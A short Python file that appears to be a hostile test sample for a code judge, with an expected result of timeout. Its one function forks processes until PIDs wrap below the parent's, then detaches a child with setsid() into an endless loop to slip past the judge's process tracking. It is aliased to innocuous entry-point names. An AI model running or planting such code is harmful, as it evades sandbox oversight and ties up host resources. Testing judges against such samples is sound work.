# Starts children until process numbers come round again to those the judge remembers
# ends: timeout
import os


def total(*_):
    me = os.getpid()
    while True:
        child = os.fork()
        if child == 0:
            if os.getpid() < me:
                os.setsid()
                while True:
                    os.getppid()
            os._exit(0)
        if child > me:
            os.waitpid(child, 0)


Ledger = read_note = total
